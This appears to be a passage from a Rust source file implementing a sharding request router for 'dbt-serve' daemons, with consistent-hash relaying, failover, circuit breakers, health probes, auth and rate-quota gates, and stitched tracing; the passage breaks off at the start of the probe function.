//! The router itself: listener, per-connection handlers, backend pools,
//! the health prober and the fleet fan-out ops.
//!
//! Request flow:
//!
//! 1. a handler thread reads one NDJSON frame (the exact bounded framing
//!    of `dbt-serve`, via [`read_frame`]) and decodes it together with
//!    its v3 envelope ([`FrameMeta`]);
//! 2. the auth gate and the per-client token bucket run first — both off
//!    by default, both answered by the router itself (`error` /
//!    `quota_exceeded` frames), so no denied request ever reaches a
//!    backend;
//! 3. heavy ops are **relayed raw**: the client's original frame bytes
//!    go to the backend chosen by the consistent-hash ring, and the
//!    backend's response line comes back verbatim — byte-identical to
//!    talking to that daemon directly, trace-id echo included. Transport
//!    failures fail over along the ring's preference order with
//!    exponential backoff; `busy`/`error` answers are relayed, never
//!    retried (the backend spoke — backpressure and failures must stay
//!    visible);
//! 4. `upload` is relayed to the key's owner and then replicated to
//!    every other live backend, so `fp:` refs resolve on any shard;
//! 5. `stats`/`metrics`/`health` fan out to the whole fleet and answer a
//!    merged body (per-backend sections, `backend="<i>"` labels on
//!    merged metrics).
//!
//! Backend death is survived three ways: a periodic health prober flips
//! the per-backend `up` flag, consecutive transport failures trip a
//! circuit breaker ([`RouterConfig::failure_threshold`]), and every
//! relay walks reachable backends first. A `shutdown` frame stops the
//! router only — backends are independent processes with their own
//! lifecycle.
//!
//! The router is also the fleet's tracing front door: every heavy frame
//! gets an `r:request` root span with `r:relay` / `r:failover-retry.<n>`
//! children (probe rounds get spans of their own under the synthetic
//! `probe` trace), and the `trace` op answers a *stitched* tree — the
//! router's spans plus the owning backend's, the backend's roots
//! reparented under the successful relay span. Relayed frames stay byte
//! verbatim, so stitching requires the client to choose the trace id
//! (`lab submit --trace-id`, the load generator's `c<i>-<n>` ids);
//! otherwise router and daemon fall back to different generated ids.
//! Failover, circuit-break, probe and auth decisions are narrated into a
//! structured [`EventLog`] served by the `logs` op.

use crate::limiter::TokenBucket;
use crate::merge::merge_expositions;
use crate::ring::{HashRing, DEFAULT_RING_REPLICAS};
use dbt_obs::{
    Counter, EventLog, Gauge, Histogram, LogLevel, MetricsRegistry, Span, SpanRecord, SpanRecorder,
    TraceClock, DEFAULT_LATENCY_BOUNDS_MICROS,
};
use dbt_serve::json::escape;
use dbt_serve::{
    read_frame, Frame, FrameMeta, JsonValue, Request, Response, DEFAULT_MAX_FRAME_BYTES,
};
use std::collections::{HashMap, VecDeque};
use std::io::{BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// The deterministic per-client rate quota (off unless set on
/// [`RouterConfig::quota`]): a token bucket per auth token (or per peer
/// IP for unauthenticated fleets), spending one token per heavy request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct QuotaConfig {
    /// Refill rate, tokens per second.
    pub rate_per_sec: u64,
    /// Bucket capacity: how many requests a client may burst.
    pub burst: u64,
}

/// Router knobs. The default is a pure relay: no auth, no quota —
/// protocol-v2 clients work through it untouched.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RouterConfig {
    /// Virtual ring points per backend ([`DEFAULT_RING_REPLICAS`]).
    pub replicas: usize,
    /// Accepted bearer tokens; empty = auth off. With tokens configured,
    /// a connection must present one valid `auth` member before any
    /// non-`health` request is forwarded (the connection stays
    /// authenticated afterwards).
    pub auth_tokens: Vec<String>,
    /// Per-client rate quota; `None` = off.
    pub quota: Option<QuotaConfig>,
    /// How often the prober health-checks every backend.
    pub probe_interval: Duration,
    /// Connect/read timeout of one health probe.
    pub probe_timeout: Duration,
    /// Consecutive transport failures that trip a backend's circuit
    /// breaker (a successful forward or probe closes it again).
    pub failure_threshold: u32,
    /// Initial pause before retrying a failed relay on the next backend;
    /// doubles per attempt.
    pub retry_backoff: Duration,
    /// Bound on one request line, as in `dbt-serve`.
    pub max_frame_bytes: usize,
}

impl Default for RouterConfig {
    fn default() -> RouterConfig {
        RouterConfig {
            replicas: DEFAULT_RING_REPLICAS,
            auth_tokens: Vec::new(),
            quota: None,
            probe_interval: Duration::from_secs(1),
            probe_timeout: Duration::from_millis(250),
            failure_threshold: 3,
            retry_backoff: Duration::from_millis(10),
            max_frame_bytes: DEFAULT_MAX_FRAME_BYTES,
        }
    }
}

/// One pooled backend connection (reader half buffered, writer half
/// flushed per frame — same discipline as the `dbt-serve` client).
struct Conn {
    reader: BufReader<TcpStream>,
    writer: TcpStream,
}

impl Conn {
    fn open(addr: SocketAddr) -> std::io::Result<Conn> {
        let stream = TcpStream::connect(addr)?;
        let writer = stream.try_clone()?;
        Ok(Conn { reader: BufReader::new(stream), writer })
    }

    /// Sends one frame line and reads one response line.
    fn roundtrip(&mut self, line: &str) -> std::io::Result<String> {
        writeln!(self.writer, "{line}")?;
        self.writer.flush()?;
        let mut reply = String::new();
        if self.reader.read_line(&mut reply)? == 0 {
            return Err(std::io::Error::new(
                std::io::ErrorKind::UnexpectedEof,
                "backend closed the connection",
            ));
        }
        while reply.ends_with('\n') || reply.ends_with('\r') {
            reply.pop();
        }
        Ok(reply)
    }
}

/// One backend daemon: address, breaker state, connection pool and its
/// pre-registered per-backend metric handles.
struct Backend {
    index: usize,
    addr: SocketAddr,
    /// The breaker: `false` while the backend is considered dead.
    up: AtomicBool,
    /// Consecutive transport failures since the last success.
    failures: AtomicU32,
    pool: Mutex<Vec<Conn>>,
    /// `dbt_router_forwarded_total{backend="<index>"}`.
    forwarded: Arc<Counter>,
    /// `dbt_router_backend_up{backend="<index>"}`.
    up_gauge: Arc<Gauge>,
}

impl Backend {
    fn is_up(&self) -> bool {
        self.up.load(Ordering::SeqCst)
    }

    /// Sends `line` and returns the backend's raw response line, reusing
    /// a pooled connection when one exists (one silent retry on a fresh
    /// connection covers pool entries whose daemon restarted).
    fn forward(&self, line: &str) -> std::io::Result<String> {
        let pooled = self.pool.lock().expect("backend pool lock").pop();
        if let Some(mut conn) = pooled {
            if let Ok(reply) = conn.roundtrip(line) {
                self.forwarded.inc();
                self.pool.lock().expect("backend pool lock").push(conn);
                return Ok(reply);
            }
            // The pooled connection went stale; fall through to a fresh one.
        }
        let mut conn = Conn::open(self.addr)?;
        let reply = conn.roundtrip(line)?;
        self.forwarded.inc();
        self.pool.lock().expect("backend pool lock").push(conn);
        Ok(reply)
    }

    /// A forward or probe succeeded: reset the breaker.
    fn record_success(&self) {
        self.failures.store(0, Ordering::SeqCst);
        self.up.store(true, Ordering::SeqCst);
        self.up_gauge.set(1);
    }

    /// A forward failed at the transport level: count it, trip the
    /// breaker at the threshold.
    fn record_failure(&self, threshold: u32) {
        let failures = self.failures.fetch_add(1, Ordering::SeqCst) + 1;
        if failures >= threshold {
            self.set_down();
        }
    }

    /// Marks the backend dead immediately (a failed health probe is
    /// definitive — `health` is answered inline by any live daemon).
    fn set_down(&self) {
        self.up.store(false, Ordering::SeqCst);
        self.up_gauge.set(0);
        // Pooled connections point at a dead peer; drop them.
        self.pool.lock().expect("backend pool lock").clear();
    }
}

/// The request `op` labels the router pre-registers — the same set as
/// `dbt-serve`, so fleet dashboards join on identical label values.
const OP_LABELS: [&str; 12] = [
    "analyze", "health", "invalid", "logs", "metrics", "profile", "run", "shutdown", "stats",
    "sweep", "trace", "upload",
];

/// The router's own metric families on a per-router registry, resolved
/// once at startup.
struct RouterMetrics {
    registry: Arc<MetricsRegistry>,
    /// `dbt_router_requests_total{op=...}`, parallel to [`OP_LABELS`].
    requests: Vec<Arc<Counter>>,
    /// `dbt_router_request_seconds{op=...}`, parallel to [`OP_LABELS`].
    latency: Vec<Arc<Histogram>>,
    failovers: Arc<Counter>,
    busy_relayed: Arc<Counter>,
    auth_failures: Arc<Counter>,
    quota_exceeded: Arc<Counter>,
    probes: Arc<Counter>,
    probe_failures: Arc<Counter>,
    replications: Arc<Counter>,
    replication_failures: Arc<Counter>,
}

impl RouterMetrics {
    fn new() -> RouterMetrics {
        let registry = MetricsRegistry::new();
        let requests = OP_LABELS
            .iter()
            .map(|op| {
                registry.counter_with(
                    "dbt_router_requests_total",
                    "Request frames seen by the router, by op (`invalid` = never decoded).",
                    &[("op", op)],
                )
            })
            .collect();
        let latency = OP_LABELS
            .iter()
            .map(|op| {
                registry.histogram_with(
                    "dbt_router_request_seconds",
                    "Wall-clock request latency through the router, by op.",
                    DEFAULT_LATENCY_BOUNDS_MICROS,
                    &[("op", op)],
                )
            })
            .collect();
        RouterMetrics {
            requests,
            latency,
            failovers: registry.counter(
                "dbt_router_failovers_total",
                "Relay attempts moved to the next backend after a transport failure.",
            ),
            busy_relayed: registry.counter(
                "dbt_router_busy_relayed_total",
                "Backend `busy` answers relayed to clients (backpressure is end-to-end).",
            ),
            auth_failures: registry.counter(
                "dbt_router_auth_failures_total",
                "Requests denied by the auth gate (missing or invalid bearer token).",
            ),
            quota_exceeded: registry.counter(
                "dbt_router_quota_exceeded_total",
                "Requests bounced by the per-client token bucket.",
            ),
            probes: registry.counter("dbt_router_probes_total", "Health probes sent to backends."),
            probe_failures: registry
                .counter("dbt_router_probe_failures_total", "Health probes that failed."),
            replications: registry.counter(
                "dbt_router_replications_total",
                "Upload frames replicated to non-owner backends.",
            ),
            replication_failures: registry.counter(
                "dbt_router_replication_failures_total",
                "Upload replications that failed (the shard misses the program until re-upload).",
            ),
            registry,
        }
    }

    /// Index of `op` in [`OP_LABELS`]; unknown strings land on `invalid`.
    fn op_index(op: &str) -> usize {
        OP_LABELS.iter().position(|known| *known == op).unwrap_or_else(|| {
            OP_LABELS.iter().position(|known| *known == "invalid").expect("invalid is registered")
        })
    }

    /// Total request frames seen — the `router.requests` stats member.
    fn total_requests(&self) -> u64 {
        self.requests.iter().map(|counter| counter.get()).sum()
    }
}

/// Where a decoded request goes.
enum Route {
    /// Relay to the key's owner, failing over along the ring preference.
    Key(String),
    /// Relay to the key's owner, then replicate to every other live
    /// backend (`upload`).
    Replicate(String),
    /// Ask every backend and answer a merged body.
    FanOut,
    /// Any live backend will do (the trace-log form of `profile` — each
    /// daemon keeps its own log; the fleet answer is one shard's view).
    Any,
    /// Answered by the router itself from its own observability rings
    /// (`trace` = the stitched span tree, `logs` = the event log).
    Observe,
    /// Stop the router (backends keep running).
    Stop,
}

/// The routing key of a request: which backend serves it. Keys are
/// derived from the *program*, so every op touching the same program
/// lands on the same shard and its translation/memo caches stay warm.
fn route(request: &Request) -> Route {
    match request {
        Request::Run { scenario } => Route::Key(scenario_key(scenario)),
        Request::RunProgram { program, .. } | Request::Analyze { program } => {
            Route::Key(normalize_ref(program))
        }
        Request::Profile { program: Some(program), .. } => Route::Key(normalize_ref(program)),
        Request::Profile { program: None, .. } => Route::Any,
        Request::Sweep { name, .. } => Route::Key(format!("sweep:{name}")),
        Request::Upload { source } => Route::Replicate(source.text().to_string()),
        Request::Stats | Request::Metrics | Request::Health => Route::FanOut,
        Request::Trace { .. } | Request::Logs { .. } => Route::Observe,
        Request::Shutdown => Route::Stop,
    }
}

/// The program segment of a `sweep/program/policy/platform` scenario
/// name — runs of the same program shard together across policies.
fn scenario_key(scenario: &str) -> String {
    scenario.split('/').nth(1).unwrap_or(scenario).to_string()
}

/// Canonicalizes a program ref so spelling variants shard identically:
/// `registry:gemm` and `gemm` are one key, and `fp:` hex is lowercased
/// zero-padded. Unparseable refs shard by their literal text (the
/// backend will answer the error).
fn normalize_ref(text: &str) -> String {
    let bare = text.strip_prefix("registry:").unwrap_or(text);
    if let Some(hex) = bare.strip_prefix("fp:") {
        if let Ok(fp) = u64::from_str_radix(hex, 16) {
            return format!("fp:{fp:016x}");
        }
    }
    bare.to_string()
}

/// Per-connection state a handler threads through its requests.
struct ConnState {
    /// Peer IP, the quota key of unauthenticated clients.
    peer: String,
    /// Set once any frame on this connection presented a valid token.
    authenticated: bool,
    frame_seq: u64,
}

impl ConnState {
    /// Deterministic fallback trace id for router-originated answers:
    /// the n-th frame of a connection is `r<n>`.
    fn next_trace(&mut self) -> String {
        let trace = format!("r{}", self.frame_seq);
        self.frame_seq += 1;
        trace
    }
}

/// What a dispatched request answers with.
enum Answer {
    /// A backend's response line, relayed verbatim (trace echo and all).
    Raw(String),
    /// A router-originated response, encoded with the client's trace id.
    Local(Response),
}

/// Bound on the trace-id → owning-backend map behind stitching.
const TRACE_OWNER_CAPACITY: usize = 1024;

struct Shared {
    backends: Vec<Backend>,
    ring: HashRing,
    config: RouterConfig,
    addr: SocketAddr,
    shutdown: AtomicBool,
    started: Instant,
    metrics: RouterMetrics,
    /// The router's own span ring: request roots, relay attempts, probes.
    spans: SpanRecorder,
    /// The structured event log the `logs` op serves.
    events: EventLog,
    /// Trace id → index of the backend that answered its relay (bounded
    /// FIFO), so `trace` knows which shard holds the other half of the
    /// tree.
    trace_owners: Mutex<VecDeque<(String, usize)>>,
    /// Monotonic probe counter: gives every probe span a unique id under
    /// the synthetic `probe` trace.
    probe_seq: AtomicU64,
    /// Token buckets keyed by auth token (or peer IP when auth is off).
    quotas: Mutex<HashMap<String, TokenBucket>>,
    /// Wakes the prober early on shutdown.
    probe_wake: (Mutex<()>, Condvar),
}

impl Shared {
    /// Answers one request line: the encoded response frame to write and
    /// whether the router must stop afterwards.
    fn respond(&self, line: &str, conn: &mut ConnState) -> (String, bool) {
        let start_micros = self.spans.now_micros();
        let (decoded, meta) = match Request::decode_frame_meta(line) {
            Ok((request, meta)) => (Ok(request), meta),
            Err(error) => (Err(error), FrameMeta::default()),
        };
        // Generated eagerly, like the daemon's `t<n>` ids: the n-th frame
        // of a connection is `r<n>` whether or not the client chose its
        // own id, so the sequence stays deterministic either way.
        let generated = conn.next_trace();
        let trace = meta.trace_id.clone().unwrap_or(generated);
        let heavy = decoded.as_ref().map(Request::is_heavy).unwrap_or(false);
        let op = decoded.as_ref().map(Request::op).unwrap_or("invalid");
        let index = RouterMetrics::op_index(op);
        self.metrics.requests[index].inc();
        let span = Span::on(&self.metrics.latency[index]);
        let (answer, stop) = self.dispatch(line, decoded, &meta, &trace, conn);
        drop(span);
        if heavy {
            // The router's root span: decode through answer, parented
            // under whatever span the client put on the envelope.
            let end_micros = self.spans.now_micros();
            self.spans.record(SpanRecord {
                trace_id: trace.clone(),
                span_id: "r:request".to_string(),
                parent: meta.parent_span.clone(),
                stage: "request".to_string(),
                start_micros,
                duration_micros: end_micros.saturating_sub(start_micros),
            });
        }
        let frame = match answer {
            Answer::Raw(reply) => reply,
            Answer::Local(response) => response.encode_with_trace(Some(&trace)),
        };
        (frame, stop)
    }

    /// The gate-then-route pipeline behind [`Shared::respond`].
    fn dispatch(
        &self,
        line: &str,
        decoded: Result<Request, String>,
        meta: &FrameMeta,
        trace: &str,
        conn: &mut ConnState,
    ) -> (Answer, bool) {
        let request = match decoded {
            Ok(request) => request,
            Err(error) => {
                return (Answer::Local(Response::Error { op: "invalid".to_string(), error }), false)
            }
        };
        if let Some(denied) = self.check_auth(&request, meta, conn) {
            return (Answer::Local(denied), false);
        }
        if let Some(bounced) = self.check_quota(&request, meta, conn) {
            return (Answer::Local(bounced), false);
        }
        let op = request.op().to_string();
        match route(&request) {
            Route::Stop => {
                (Answer::Local(Response::Ok { op, body: "{\"stopping\": true}".to_string() }), true)
            }
            Route::FanOut => {
                let body = match request {
                    Request::Stats => self.fleet_stats_body(),
                    Request::Metrics => self.fleet_metrics_body(),
                    Request::Health => self.fleet_health_body(),
                    _ => unreachable!("only fleet ops fan out"),
                };
                (Answer::Local(Response::Ok { op, body }), false)
            }
            Route::Observe => (Answer::Local(self.observe_answer(&request)), false),
            Route::Any => {
                let order: Vec<usize> = (0..self.backends.len()).collect();
                (self.relay(line, &op, &order, trace), false)
            }
            Route::Key(key) => (self.relay(line, &op, &self.ring.preference(&key), trace), false),
            Route::Replicate(key) => (self.replicate_upload(line, &key, trace), false),
        }
    }

    /// Answers the router-local observability ops: `trace` serves the
    /// stitched span tree, `logs` the event log.
    fn observe_answer(&self, request: &Request) -> Response {
        match request {
            Request::Trace { target } => {
                Response::Ok { op: "trace".to_string(), body: self.stitched_trace_body(target) }
            }
            Request::Logs { level } => {
                match level.as_deref().map_or(Some(LogLevel::Debug), LogLevel::parse) {
                    Some(min_level) => {
                        Response::Ok { op: "logs".to_string(), body: self.events.json(min_level) }
                    }
                    None => Response::Error {
                        op: "logs".to_string(),
                        error: format!(
                            "unknown log level `{}` (expected debug|info|warn|error)",
                            level.as_deref().unwrap_or("")
                        ),
                    },
                }
            }
            _ => unreachable!("only observability ops are routed here"),
        }
    }

    /// The stitched `trace` body: the router's own spans for `target`
    /// plus the owning backend's tree, the backend's parentless roots
    /// reparented under the router's last relay span so the whole request
    /// reads as one tree. Requires the client to have chosen the trace id
    /// (a relayed frame travels verbatim, so router and daemon fall back
    /// to different generated ids otherwise).
    fn stitched_trace_body(&self, target: &str) -> String {
        let mut spans = self.spans.spans_for(target);
        if let Some(owner) = self.owner_of(target) {
            let anchor = spans
                .iter()
                .rev()
                .find(|span| span.stage == "relay" || span.stage == "failover-retry")
                .map(|span| span.span_id.clone());
            let fetch = Request::Trace { target: target.to_string() };
            if let Ok(body) = self.ask(&self.backends[owner], &fetch) {
                for mut span in parse_remote_spans(target, &body) {
                    if span.parent.is_none() {
                        span.parent = anchor.clone();
                    }
                    spans.push(span);
                }
            }
        }
        SpanRecorder::render_tree(target, &spans, self.spans.dropped())
    }

    /// The backend that answered `trace_id`'s relay, if still remembered.
    fn owner_of(&self, trace_id: &str) -> Option<usize> {
        let owners = self.trace_owners.lock().expect("trace owner lock");
        owners.iter().rev().find(|(id, _)| id == trace_id).map(|&(_, index)| index)
    }

    /// Remembers which backend answered `trace_id` (bounded FIFO).
    fn record_owner(&self, trace_id: &str, index: usize) {
        let mut owners = self.trace_owners.lock().expect("trace owner lock");
        if owners.len() >= TRACE_OWNER_CAPACITY {
            owners.pop_front();
        }
        owners.push_back((trace_id.to_string(), index));
    }

    /// Counts a transport failure against a backend, narrating the
    /// up→down transition into the event log (only the transition — a
    /// dead backend keeps failing and must not flood the ring).
    fn note_failure(&self, index: usize, cause: &str, trace: Option<&str>) {
        let backend = &self.backends[index];
        let was_up = backend.is_up();
        backend.record_failure(self.config.failure_threshold);
        if was_up && !backend.is_up() {
            self.events.log(
                LogLevel::Error,
                "router.failover",
                &format!("backend {index} ({}) circuit-broken", backend.addr),
                trace,
                &[("cause", cause), ("backend", &index.to_string())],
            );
        }
    }

    /// The auth gate. `None` = pass. Health stays open so probes and
    /// monitoring work without credentials.
    fn check_auth(
        &self,
        request: &Request,
        meta: &FrameMeta,
        conn: &mut ConnState,
    ) -> Option<Response> {
        if self.config.auth_tokens.is_empty() || matches!(request, Request::Health) {
            return None;
        }
        if let Some(token) = &meta.auth {
            if self.config.auth_tokens.iter().any(|known| known == token) {
                conn.authenticated = true;
            } else {
                self.metrics.auth_failures.inc();
                // Narrate the denial without ever logging the token.
                self.events.log(
                    LogLevel::Warn,
                    "router.auth",
                    &format!("invalid auth token from {} for `{}`", conn.peer, request.op()),
                    meta.trace_id.as_deref(),
                    &[("peer", &conn.peer)],
                );
                return Some(Response::Error {
                    op: request.op().to_string(),
                    error: "invalid auth token".to_string(),
                });
            }
        }
        if conn.authenticated {
            None
        } else {
            self.metrics.auth_failures.inc();
            self.events.log(
                LogLevel::Warn,
                "router.auth",
                &format!("unauthenticated `{}` from {} denied", request.op(), conn.peer),
                meta.trace_id.as_deref(),
                &[("peer", &conn.peer)],
            );
            Some(Response::Error {
                op: request.op().to_string(),
                error: "authentication required: send an `auth` bearer token (protocol v3)"
                    .to_string(),
            })
        }
    }

    /// The rate quota. `None` = admitted. Only heavy ops spend tokens —
    /// observability stays free.
    fn check_quota(
        &self,
        request: &Request,
        meta: &FrameMeta,
        conn: &ConnState,
    ) -> Option<Response> {
        let quota = self.config.quota.as_ref()?;
        if !request.is_heavy() {
            return None;
        }
        let key = meta.auth.clone().unwrap_or_else(|| conn.peer.clone());
        let now_micros = self.started.elapsed().as_micros() as u64;
        let mut buckets = self.quotas.lock().expect("quota table lock");
        let bucket =
            buckets.entry(key).or_insert_with(|| TokenBucket::new(quota.rate_per_sec, quota.burst));
        if bucket.try_take(now_micros) {
            None
        } else {
            self.metrics.quota_exceeded.inc();
            // The quota key may be a bearer token; log the peer instead.
            self.events.log(
                LogLevel::Warn,
                "router.quota",
                &format!("quota bounced `{}` from {}", request.op(), conn.peer),
                meta.trace_id.as_deref(),
                &[("peer", &conn.peer)],
            );
            Some(Response::QuotaExceeded { op: request.op().to_string() })
        }
    }

    /// Relays `line` along `order`, wrapping the all-failed case into an
    /// `error` frame.
    fn relay(&self, line: &str, op: &str, order: &[usize], trace: &str) -> Answer {
        match self.relay_ranked(line, op, order, trace) {
            Ok((_, reply)) => Answer::Raw(reply),
            Err(error) => Answer::Local(Response::Error { op: op.to_string(), error }),
        }
    }

    /// Relays `line` to the first backend in `order` that answers —
    /// reachable backends first, the circuit-broken rest as a last
    /// resort (a probe may simply not have run yet) — with exponential
    /// backoff between attempts. Returns the answering backend's index
    /// and raw response line. Every attempt is recorded as a span under
    /// `trace` (`r:relay`, then `r:failover-retry.<n>`), and retries are
    /// narrated into the event log.
    fn relay_ranked(
        &self,
        line: &str,
        op: &str,
        order: &[usize],
        trace: &str,
    ) -> Result<(usize, String), String> {
        let mut candidates: Vec<usize> =
            order.iter().copied().filter(|&i| self.backends[i].is_up()).collect();
        candidates.extend(order.iter().copied().filter(|&i| !self.backends[i].is_up()));
        let mut backoff = self.config.retry_backoff;
        let mut last_error = "no backends configured".to_string();
        for (attempt, &index) in candidates.iter().enumerate() {
            if attempt > 0 {
                self.metrics.failovers.inc();
                self.events.log(
                    LogLevel::Warn,
                    "router.failover",
                    &format!("retrying `{op}` on backend {index} after: {last_error}"),
                    Some(trace),
                    &[("attempt", &attempt.to_string()), ("backend", &index.to_string())],
                );
                std::thread::sleep(backoff);
                backoff = backoff.saturating_mul(2);
            }
            let backend = &self.backends[index];
            let attempt_start = self.spans.now_micros();
            let outcome = backend.forward(line);
            let (span_id, stage) = if attempt == 0 {
                ("r:relay".to_string(), "relay")
            } else {
                (format!("r:failover-retry.{attempt}"), "failover-retry")
            };
            self.spans.record(SpanRecord {
                trace_id: trace.to_string(),
                span_id,
                parent: Some("r:request".to_string()),
                stage: stage.to_string(),
                start_micros: attempt_start,
                duration_micros: self.spans.now_micros().saturating_sub(attempt_start),
            });
            match outcome {
                Ok(reply) if is_lifecycle_refusal(&reply) => {
                    // The daemon answered, but only to say it is going
                    // away and never executed the job — as retryable as
                    // a refused connection.
                    self.note_failure(index, "lifecycle-refusal", Some(trace));
                    last_error = format!("backend {index} ({}) is shutting down", backend.addr);
                }
                Ok(reply) => {
                    backend.record_success();
                    if reply.starts_with("{\"status\": \"busy\"") {
                        self.metrics.busy_relayed.inc();
                    }
                    self.record_owner(trace, index);
                    return Ok((index, reply));
                }
                Err(error) => {
                    self.note_failure(index, "transport", Some(trace));
                    last_error = format!("backend {index} ({}): {error}", backend.addr);
                }
            }
        }
        self.events.log(
            LogLevel::Error,
            "router.failover",
            &format!("no backend could answer `{op}`"),
            Some(trace),
            &[],
        );
        Err(format!("no backend could answer `{op}`: {last_error}"))
    }

    /// `upload`: relay to the key's owner (with failover), then replicate
    /// the same frame to every other live backend so `fp:` refs resolve
    /// on any shard. Replication only happens for an `ok` answer — a
    /// bounced or failed upload is not half-applied across the fleet.
    fn replicate_upload(&self, line: &str, key: &str, trace: &str) -> Answer {
        let order = self.ring.preference(key);
        let (answered_by, reply) = match self.relay_ranked(line, "upload", &order, trace) {
            Ok(answered) => answered,
            Err(error) => {
                return Answer::Local(Response::Error { op: "upload".to_string(), error })
            }
        };
        if reply.starts_with("{\"status\": \"ok\"") {
            for backend in &self.backends {
                if backend.index == answered_by || !backend.is_up() {
                    continue;
                }
                match backend.forward(line) {
                    Ok(_) => {
                        backend.record_success();
                        self.metrics.replications.inc();
                    }
                    Err(_) => {
                        self.note_failure(backend.index, "replicate", Some(trace));
                        self.metrics.replication_failures.inc();
                        self.events.log(
                            LogLevel::Warn,
                            "router.replicate",
                            &format!(
                                "upload replication to backend {} ({}) failed",
                                backend.index, backend.addr
                            ),
                            Some(trace),
                            &[("backend", &backend.index.to_string())],
                        );
                    }
                }
            }
        }
        Answer::Raw(reply)
    }

    /// Count of backends the breaker currently trusts.
    fn up_count(&self) -> usize {
        self.backends.iter().filter(|backend| backend.is_up()).count()
    }

    /// Asks one backend a cheap request and returns the `ok` body,
    /// recording breaker state either way.
    fn ask(&self, backend: &Backend, request: &Request) -> Result<String, String> {
        match backend.forward(&request.encode()) {
            Ok(reply) => match Response::decode(&reply) {
                Ok(Response::Ok { body, .. }) => {
                    backend.record_success();
                    Ok(body)
                }
                Ok(other) => Err(format!("unexpected {} answer: {other:?}", request.op())),
                Err(error) => Err(error),
            },
            Err(error) => {
                self.note_failure(backend.index, "transport", None);
                Err(error.to_string())
            }
        }
    }

    /// The fleet `stats` body: router counters plus every backend's own
    /// single-line stats body, in index order.
    fn fleet_stats_body(&self) -> String {
        let members: Vec<String> = self
            .backends
            .iter()
            .map(|backend| match self.ask(backend, &Request::Stats) {
                Ok(body) => body,
                Err(error) => format!("{{\"error\": \"{}\"}}", escape(&error)),
            })
            .collect();
        let forwarded: Vec<String> =
            self.backends.iter().map(|backend| backend.forwarded.get().to_string()).collect();
        format!(
            "{{\"router\": {{\"backends\": {}, \"up\": {}, \"requests\": {}, \
             \"forwarded\": [{}], \"failovers\": {}, \"busy_relayed\": {}, \
             \"auth_failures\": {}, \"quota_exceeded\": {}, \"replications\": {}}}, \
             \"backends\": [{}]}}",
            self.backends.len(),
            self.up_count(),
            self.metrics.total_requests(),
            forwarded.join(", "),
            self.metrics.failovers.get(),
            self.metrics.busy_relayed.get(),
            self.metrics.auth_failures.get(),
            self.metrics.quota_exceeded.get(),
            self.metrics.replications.get(),
            members.join(", ")
        )
    }

    /// The fleet `metrics` body: the router's families, then every
    /// answering backend's families with `backend="<i>"` injected.
    fn fleet_metrics_body(&self) -> String {
        let mut expositions = Vec::new();
        for backend in &self.backends {
            if let Ok(body) = self.ask(backend, &Request::Metrics) {
                expositions.push((backend.index, body));
            }
        }
        format!("{}{}", self.metrics.registry.render(), merge_expositions(&expositions))
    }

    /// The fleet `health` body: the router's own identity (uptime,
    /// version) next to per-backend liveness as observed *now* (the
    /// fan-out doubles as a probe round).
    fn fleet_health_body(&self) -> String {
        let members: Vec<String> = self
            .backends
            .iter()
            .map(|backend| match self.ask(backend, &Request::Health) {
                Ok(body) => format!("{{\"up\": true, \"health\": {body}}}"),
                Err(error) => format!("{{\"up\": false, \"error\": \"{}\"}}", escape(&error)),
            })
            .collect();
        format!(
            "{{\"router\": {{\"backends\": {}, \"up\": {}, \"uptime_secs\": {}, \
             \"version\": \"{}\"}}, \"backends\": [{}]}}",
            self.backends.len(),
            self.up_count(),
            self.started.elapsed().as_secs(),
            escape(env!("CARGO_PKG_VERSION")),
            members.join(", ")
        )
    }

    /// One probe round over every backend. Probes are background work
    /// with no client frame, so their spans live under the synthetic
    /// `probe` trace, one root span per probe.
    fn probe_all(&self) {
        for backend in &self.backends {
            self.metrics.probes.inc();
            let seq = self.probe_seq.fetch_add(1, Ordering::Relaxed);
            let start_micros = self.spans.now_micros();
            let outcome = probe_once(backend.addr, self.config.probe_timeout);
            self.spans.record(SpanRecord {
                trace_id: "probe".to_string(),
                span_id: format!("r:probe.{seq}"),
                parent: None,
                stage: "probe".to_string(),
                start_micros,
                duration_micros: self.spans.now_micros().saturating_sub(start_micros),
            });
            match outcome {
                Ok(()) => backend.record_success(),
                Err(_) => {
                    self.metrics.probe_failures.inc();
                    let was_up = backend.is_up();
                    backend.set_down();
                    if was_up {
                        self.events.log(
                            LogLevel::Warn,
                            "router.failover",
                            &format!(
                                "backend {} ({}) failed its health probe, marked down",
                                backend.index, backend.addr
                            ),
                            None,
                            &[("cause", "probe"), ("backend", &backend.index.to_string())],
                        );
                    }
                }
            }
        }
    }

    /// Idempotently stops the router: flags, wakes the prober, pokes the
    /// acceptor awake with a throwaway connection.
    fn begin_shutdown(&self) {
        if !self.shutdown.swap(true, Ordering::SeqCst) {
            self.events.log(LogLevel::Info, "router.lifecycle", "stopping", None, &[]);
            self.probe_wake.1.notify_all();
            let _ = TcpStream::connect(self.addr);
        }
    }
}

/// Parses the `spans` array of a backend's `trace` body back into
/// records (the backend emits them through the same `dbt-obs` writer, so
/// the round trip is lossless). Unparseable bodies stitch to nothing.
fn parse_remote_spans(trace_id: &str, body: &str) -> Vec<SpanRecord> {
    let Ok(value) = JsonValue::parse(body) else { return Vec::new() };
    let Some(spans) = value.get("spans").and_then(JsonValue::as_array) else { return Vec::new() };
    spans
        .iter()
        .filter_map(|span| {
            Some(SpanRecord {
                trace_id: trace_id.to_string(),
                span_id: span.get("span_id")?.as_str()?.to_string(),
                parent: span.get("parent").and_then(JsonValue::as_str).map(str::to_string),
                stage: span.get("stage")?.as_str()?.to_string(),
                start_micros: span.get("start_micros")?.as_u64()?,
                duration_micros: span.get("duration_micros")?.as_u64()?,
            })
        })
        .collect()
}

/// `true` for the two daemon answers that mean "the job was never
/// executed because this daemon is going away" — a shutting-down daemon
/// keeps answering open connections, and those refusals must trigger
/// failover exactly like a refused connection. Any other `error` is the
/// *request's* failure and is relayed, never retried.
fn is_lifecycle_refusal(reply: &str) -> bool {
    reply.starts_with("{\"status\": \"error\"")
        && (reply.contains("server is shutting down") || reply.contains("worker dropped the job"))
}

/// One health probe on a dedicated short-timeout connection (pooled
/// relay connections deliberately have no read timeout — sweeps take
/// seconds).
fn probe_once(addr: SocketAddr, timeout: Duration) -> std::io::Result<()> {
